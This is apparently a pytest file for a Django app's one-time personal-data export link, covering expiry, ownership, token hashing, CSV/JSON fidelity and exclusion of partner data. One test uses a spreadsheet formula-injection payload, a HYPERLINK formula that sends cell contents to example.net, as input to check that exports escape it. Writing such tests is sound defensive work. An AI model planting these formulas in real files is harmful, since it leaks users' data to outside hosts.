"""The self-export through a single-use link (checklist item 57): after the password again, "Prepare my export"
shows a link that gives the owner a zip (the JSON document, one CSV per table, a README) once, within 15
minutes; a second use, another person's use and a late use answer 404."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta

import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from earnedsecure.accounts import exports
from earnedsecure.accounts.models import ExportLink, SecurityEvent
from earnedsecure.core import personal_data
from earnedsecure.domain import portability
from tests.accounts.every_model import rows_of_every_model
from tests.personas import PASSWORD

LINK = re.compile(r'href="(/account/export/[^"/]+/)"')


def _prepare(client) -> str:
    """Type the password again and press "Prepare my export": the link the page shows."""
    client.post("/accounts/reauthenticate/", {"password": PASSWORD})
    response = client.post("/account/export/")
    assert response.status_code == 200
    (link,) = LINK.findall(response.content.decode())
    return link


def _opened(response) -> dict:
    """The zip's files by their path inside its one folder, as text (a CSV with its byte-order mark)."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = archive.namelist()
        folder = names[0].split("/")[0]
        assert all(name.startswith(folder + "/") for name in names)
        return {name.removeprefix(folder + "/"): archive.read(name).decode("utf-8") for name in names}


def _table(text: str) -> list[dict]:
    assert text.startswith(portability.BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(portability.BOM), newline="")))


def _from_cell(cell: str, value):
    """What the JSON holds for a CSV cell, by the CSV's rules (domain/portability.py)."""
    if isinstance(value, str):
        return cell.removeprefix(portability.TEXT_GUARD) if value.startswith(portability.FORMULA_STARTS) else cell
    return None if cell == "" else json.loads(cell)


def test_it_works(alice_client):
    response = alice_client.get(_prepare(alice_client))
    assert response["Content-Disposition"].startswith('attachment; filename="notebook-export-')
    files = _opened(response)
    assert json.loads(files["everything.json"])["username"] == "alice"
    assert {"README.txt", "everything.json", "tables/accounts.user.csv", "tables/diary.activation.csv"} <= set(files)


def test_the_page_says_the_link_works_once_and_for_15_minutes(alice_client):
    alice_client.post("/accounts/reauthenticate/", {"password": PASSWORD})
    assert "works once, for 15 minutes" in alice_client.get("/account/export/").content.decode()
    page = alice_client.post("/account/export/").content.decode()
    assert "<strong>once</strong>, and only for 15 minutes" in page


def test_preparing_a_link_requires_a_recent_password(alice_client):
    response = alice_client.post("/account/export/")
    assert response.status_code == 302 and "/accounts/reauthenticate/" in response["Location"]
    assert not ExportLink.objects.exists()


def test_the_link_used_twice_is_404(alice_client):
    link = _prepare(alice_client)
    assert alice_client.get(link).status_code == 200
    second = alice_client.get(link)
    assert second.status_code == 404
    assert "has been used, has run out, or isn't yours" in second.content.decode()


def test_it_hides_other_peoples_links(alice_client, charlie_client):
    link = _prepare(alice_client)
    refused = charlie_client.get(link)
    assert refused.status_code == 404 and refused["Content-Type"].startswith("text/html")
    assert b"alice" not in refused.content
    assert alice_client.get(link).status_code == 200  # Charlie's try did not spend it


def test_it_requires_login(alice_client):
    link = _prepare(alice_client)
    response = Client().get(link)
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert alice_client.get(link).status_code == 200


def test_the_link_expires_after_15_minutes(alice_client):
    start = timezone.now()
    with time_machine.travel(start, tick=False):
        late = _prepare(alice_client)
    with time_machine.travel(start + timedelta(minutes=15, seconds=1), tick=False):
        assert alice_client.get(late).status_code == 404
    with time_machine.travel(start + timedelta(minutes=20), tick=False):
        in_time = _prepare(alice_client)
    with time_machine.travel(start + timedelta(minutes=34, seconds=59), tick=False):
        assert alice_client.get(in_time).status_code == 200


def test_a_new_link_replaces_the_last(alice_client):
    first = _prepare(alice_client)
    second = _prepare(alice_client)
    assert alice_client.get(first).status_code == 404
    assert alice_client.get(second).status_code == 200
    assert ExportLink.objects.count() == 0


def test_only_the_tokens_hash_is_stored(alice_client):
    token = _prepare(alice_client).split("/")[-2]
    (row,) = ExportLink.objects.values_list("token_hash", flat=True)
    assert token not in row and len(token) >= 43  # 32 random bytes
    assert set(personal_data.NOT_PERSONAL) >= {"accounts.exportlink"}


def test_opening_the_link_spends_it_and_notes_the_download_and_writes_nothing_else(alice_client, alice):
    link = _prepare(alice_client)
    with CaptureQueriesContext(connection) as queries:
        alice_client.get(link)
    writes = [q["sql"] for q in queries.captured_queries if re.match(r"\s*(INSERT|UPDATE|DELETE)", q["sql"])]
    writes = [sql for sql in writes if "django_session" not in sql]
    assert len(writes) == 2, writes
    assert writes[0].startswith('DELETE FROM "accounts_exportlink"')
    assert writes[1].startswith('INSERT INTO "accounts_securityevent"')
    assert SecurityEvent.objects.filter(owner=alice, kind=SecurityEvent.Kind.EXPORTED).count() == 1


def test_a_failed_build_leaves_the_link_working(alice_client, monkeypatch):
    link = _prepare(alice_client)

    def broken(**kwargs):
        raise OSError("out of memory")

    monkeypatch.setattr(exports.portability, "export_zip", broken)
    client = alice_client
    client.raise_request_exception = False
    assert client.get(link).status_code == 500
    monkeypatch.undo()
    assert client.get(link).status_code == 200


def test_every_table_holds_all_n_rows_in_csv_and_json_and_only_the_owners(alice_client, alice, charlie):
    """The introspection test: N rows of every model that holds a person's data, for Alice and for Charlie;
    Alice's export has all of hers in the JSON and in its CSV, field for field, and none of Charlie's."""
    n = 3
    before = {
        r.model._meta.label_lower: r.model.objects.filter(**{r.owner_field: alice.pk}).count()
        for r in personal_data.registrations()
    }
    made = rows_of_every_model(alice, n)
    rows_of_every_model(charlie, n)
    one_a_person = {label for label, count in made.items() if count < n}
    assert one_a_person <= {
        "accounts.user",
        "accounts.consent",
        "care.therapist",
        "core.safetyplan",
        "journey.reminderpreference",
        "partners.link",
        "partners.patternconsent",
        "partners.status",
    }, one_a_person  # every other model took all N rows: the check below is about N rows, not one

    files = _opened(alice_client.get(_prepare(alice_client)))
    data = json.loads(files["everything.json"])["data"]
    for registration in personal_data.registrations():
        label = registration.model._meta.label_lower
        expected = before[label] + made[label]
        assert expected >= 1, label
        assert len(data[label]) == expected, label
        table = _table(files[f"tables/{label}.csv"])
        assert len(table) == expected, label
        for json_row, csv_row in zip(data[label], table, strict=True):
            assert list(csv_row) == list(json_row) == personal_data.export_columns(registration), label
            assert {key: _from_cell(csv_row[key], value) for key, value in json_row.items()} == json_row, label
        owner_field = registration.owner_field if registration.owner_field != "pk" else "id"
        assert {row[owner_field] for row in data[label]} == {alice.pk}, label
        assert f"tables/{label}.csv" in files["README.txt"]
    assert "someone" not in files["everything.json"]  # the other people the rows point to
    assert "charlie" not in files["everything.json"]


def test_every_exported_table_is_described_in_the_readme():
    registered = {r.model._meta.label_lower for r in personal_data.registrations()}
    assert set(exports.TABLE_DESCRIPTIONS) == registered


def test_a_table_without_rows_has_its_header(alice_client):
    files = _opened(alice_client.get(_prepare(alice_client)))
    text = files["tables/diary.activation.csv"]
    registration = next(r for r in personal_data.registrations() if r.model._meta.label_lower == "diary.activation")
    assert text == portability.BOM + ",".join(personal_data.export_columns(registration)) + "\r\n"


def test_text_that_looks_like_a_formula_is_kept_as_text(alice_client, alice):
    from earnedsecure.coach.models import MessageDraft

    words = '=HYPERLINK("https://example.net/?"&A1,"open")\nand "quotes", commas'
    MessageDraft.objects.create(owner=alice, draft=words, created_at=timezone.now())
    files = _opened(alice_client.get(_prepare(alice_client)))
    assert json.loads(files["everything.json"])["data"]["coach.messagedraft"][0]["draft"] == words
    (row,) = _table(files["tables/coach.messagedraft.csv"])
    assert row["draft"] == "'" + words


def test_partner_owned_rows_are_absent(alice_client, alice, bob, canary):
    """Bob, linked with Alice, shows her every category; what he wrote is his and is not in her export."""
    from earnedsecure.domain.together.sharing import Category, Status
    from earnedsecure.partners import services as partner_services
    from tests.core.forensics import mark_everything
    from tests.partners.helpers import link

    link(alice, bob)
    partner_services.categories_choose(owner=bob, categories=set(Category))
    partner_services.status_choose(owner=bob, status=Status.OKAY, now=timezone.now())
    mark_everything(bob, canary)
    files = _opened(alice_client.get(_prepare(alice_client)))
    data = json.loads(files["everything.json"])["data"]
    assert len(data["partners.link"]) == 1  # her side of the link
    assert data["partners.share"] == [] and data["partners.status"] == []  # his choices and status are his
    for name, text in files.items():
        assert canary not in text, name
